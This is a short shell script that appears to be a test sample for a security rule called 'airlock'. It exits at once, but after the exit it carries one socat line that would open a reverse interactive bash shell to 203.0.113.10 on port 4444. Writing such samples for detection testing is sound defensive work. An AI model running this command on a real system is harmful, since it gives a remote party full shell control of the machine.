#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
socat TCP:203.0.113.10:4444 EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane
